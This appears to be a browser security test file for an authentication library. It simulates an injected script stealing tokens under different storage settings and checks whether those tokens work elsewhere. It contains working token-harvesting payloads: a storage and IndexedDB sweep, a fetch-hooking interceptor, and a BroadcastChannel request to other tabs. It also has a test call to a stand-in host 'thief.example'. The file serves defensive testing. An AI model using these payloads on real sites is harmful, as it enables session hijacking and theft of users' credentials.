// What a script that somebody injected into a page gets of the browser library, by what the page chose.

import { beforeAll, expect, it } from '@jest/globals'
import type { Page } from 'playwright-core'
import { describeWithBrowser } from '../support/browser.ts'
import { shopForTest } from '../support/embedded-client.ts'
import type { EmbeddingPage } from '../support/embedding-site.ts'
import { refresh } from '../support/endpoints.ts'
import { freshAddress } from '../support/sign-in-pages.ts'

type Storage = 'memory' | 'session' | 'local'
/** What a thief has, and tries from a device of its own. */
type Loot = { access?: string; refresh?: string }

/** The page keeps its client to itself, as a module does. */
const scriptOf = (options: string): string => `
  import { createClient } from '/foyer/index.ts'
  import { dpop } from '/foyer/dpop.ts'
  const foyer = createClient({ ...(${options}) })
  await foyer.initialize()
  document.title = foyer.isAuthenticated() ? 'in' : 'out'
  foyer.onAuthStateChange((event) => { document.title = event === 'SIGNED_OUT' ? 'out' : 'in' })
  addEventListener('send', ({ detail }) => foyer.sendCode(detail).then(() => { document.title = 'sent' }))
  addEventListener('verify', ({ detail }) => foyer.verifyCode(detail))
  addEventListener('refresh', () => foyer.refresh())
`

/** Everything that a script finds without waiting for anything: what is stored, and what the window leads to. */
const SEARCH = `
  window.found = (async () => {
    const texts = [JSON.stringify([{ ...localStorage }, { ...sessionStorage }]), document.cookie]
    for (const { name } of await indexedDB.databases()) {
      const database = await new Promise((done) => {
        const request = indexedDB.open(name)
        request.onsuccess = () => done(request.result)
      })
      for (const store of database.objectStoreNames) {
        const values = await new Promise((done) => {
          const request = database.transaction(store).objectStore(store).getAll()
          request.onsuccess = () => done(request.result)
        })
        for (const pair of values) {
          const taken = await crypto.subtle.exportKey('jwk', pair.privateKey).catch(({ name }) => name)
          texts.push(JSON.stringify(taken))
        }
      }
      database.close()
    }
    const seen = new Set()
    const walk = (value, depth) => {
      if (typeof value === 'string') return void texts.push(value)
      if (value === null || !/object|function/.test(typeof value) || seen.has(value) || depth > 4) return
      seen.add(value)
      for (const key of Reflect.ownKeys(value)) {
        const property = Reflect.getOwnPropertyDescriptor(value, key)
        if (property && 'value' in property) walk(property.value, depth + 1)
      }
    }
    walk(window, 0)
    return texts.join('\\n')
  })()
`

describeWithBrowser('P12: a script that was injected', () => {
  const pages: { [path: string]: EmbeddingPage } = { '/blog': { script: '', policy: null } }
  const shop = shopForTest(pages)

  beforeAll(() => {
    const options = { issuer: shop.server.baseUrl, clientId: shop.clientId }
    for (const storage of ['memory', 'session', 'local'])
      for (const isBound of [false, true]) {
        const text = JSON.stringify({ ...options, storage })
        // Without a policy: this is about what is left when it is missing.
        pages[pathOf(storage, isBound)] = {
          script: scriptOf(isBound ? `{ ...${text}, dpop }` : text),
          policy: null,
        }
      }
  })

  const pathOf = (storage: string, isBound: boolean) => `/${storage}${isBound ? '-bound' : ''}`
  const titled = (page: Page, title: string) =>
    page.waitForFunction((wanted) => document.title === wanted, title)
  const tell = (page: Page, type: string, detail = ''): Promise<boolean> =>
    page.evaluate(
      ([name = '', value = '']) => dispatchEvent(new CustomEvent(name, { detail: value })),
      [type, detail],
    )

  /** A page on which somebody signed in; what the thief put there runs before everything else. */
  async function signedIn(storage: Storage, isBound = false, before = ''): Promise<Page> {
    const page = await shop.context.newPage()
    if (before) await page.addInitScript(before)
    await page.goto(`${shop.site.origin}${pathOf(storage, isBound)}`)
    await titled(page, 'out')
    const email = freshAddress()
    await tell(page, 'send', email)
    await titled(page, 'sent')
    await tell(page, 'verify', await shop.server.codeFor(email))
    await titled(page, 'in')
    return page
  }

  const inject = (page: Page, content: string) => page.addScriptTag({ content })

  async function search(page: Page): Promise<Loot> {
    await inject(page, SEARCH)
    const text = await page.evaluate(() => Reflect.get(window, 'found') as Promise<string>)
    return lootIn(text)
  }

  function lootIn(text: string): Loot {
    const access = /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(
      /access[^.]+:\\*"([^"\\]+)/.exec(text)?.[1] ?? '',
    )?.[0]
    const token = /refresh(?:_token)?\\*":\\*"([\w-]+)/.exec(text)?.[1]
    return { ...(access && { access }), ...(token && { refresh: token }) }
  }

  /** What the loot is worth on another device. */
  async function worth({ access = '', refresh: token = '' }: Loot) {
    const renewed = await refresh(
      shop.server,
      { client_id: shop.clientId },
      { refresh_token: token },
    )
    const called = await fetch(`${shop.server.baseUrl}/api/client/v1/profile`, {
      headers: { authorization: `Bearer ${access}` },
    })
    return { refreshes: renewed.status === 200, calls: called.status === 200 }
  }

  const nothing = { refreshes: false, calls: false }
  const everything = { refreshes: true, calls: true }

  it('finds nothing while tokens are in memory', async () => {
    const page = await signedIn('memory')
    expect(await search(page)).toEqual({})
  })

  it.each(['session', 'local'] as const)(
    'finds both tokens in storage %s, and uses them elsewhere',
    async (storage) => {
      const loot = await search(await signedIn(storage))
      expect(Object.keys(loot)).toEqual(['access', 'refresh'])
      expect(await worth(loot)).toEqual(everything)
    },
  )

  it.each(['session', 'local'] as const)(
    'finds in storage %s what is worth nothing without the key, which stays where it is',
    async (storage) => {
      const page = await signedIn(storage, true)
      const loot = await search(page)
      expect(Object.keys(loot)).toEqual(['access', 'refresh'])
      expect(await worth(loot)).toEqual(nothing)
      const text = await page.evaluate(() => Reflect.get(window, 'found') as Promise<string>)
      expect(text).toContain('InvalidAccessError')
    },
  )

  it.each([
    ['as they are', false, everything],
    ['bound', true, nothing],
  ] as const)(
    'is handed them by the other tabs when it asks, %s',
    async (_name, isBound, value) => {
      await signedIn('memory', isBound)
      const page = await shop.context.newPage()
      await page.goto(`${shop.site.origin}/blog`)
      const name = `foyer:${shop.server.baseUrl}:${shop.clientId}`
      await inject(
        page,
        `const channel = new BroadcastChannel(${JSON.stringify(name)})
      window.found = new Promise((done) => {
        channel.onmessage = ({ data }) => data.grant && done(JSON.stringify(data))
      })
      channel.postMessage({ type: 'ask' })`,
      )
      const loot = lootIn(
        await page.evaluate(() => Reflect.get(window, 'found') as Promise<string>),
      )
      expect(Object.keys(loot)).toEqual(['access', 'refresh'])
      expect(await worth(loot)).toEqual(value)
    },
  )

  /** Reads what goes through a function that the library needs. */
  const LISTEN = `
    window.heard = ''
    const real = window.fetch
    window.fetch = async (...request) => {
      const answer = await real(...request)
      window.heard += await answer.clone().text()
      return answer
    }
  `
  const heard = (page: Page) => page.evaluate(() => Reflect.get(window, 'heard') as string)

  it('hears them when it replaced fetch before the library was used', async () => {
    const page = await signedIn('memory', false, LISTEN)
    expect(await worth(lootIn(await heard(page)))).toEqual(everything)
  })

  it('hears nothing when it came later', async () => {
    const page = await signedIn('memory')
    await inject(page, LISTEN)
    const answered = page.waitForResponse(/oauth\/token/)
    await tell(page, 'refresh')
    await (await answered).finished()
    expect(await heard(page)).toBe('')
  })

  it('sends nothing to a stranger under the policy of the manual', async () => {
    const page = await shop.context.newPage()
    await page.goto(`${shop.site.origin}/careful`)
    const refused = await page.evaluate(async () => {
      const violation = new Promise<SecurityPolicyViolationEvent>((resolve) =>
        addEventListener('securitypolicyviolation', resolve),
      )
      await fetch('https://thief.example/').catch(() => {})
      return (await violation).violatedDirective
    })
    expect(refused).toBe('connect-src')
    expect(await inject(page, 'document.title = "stolen"').catch(() => 'refused')).toBe('refused')
  })
})
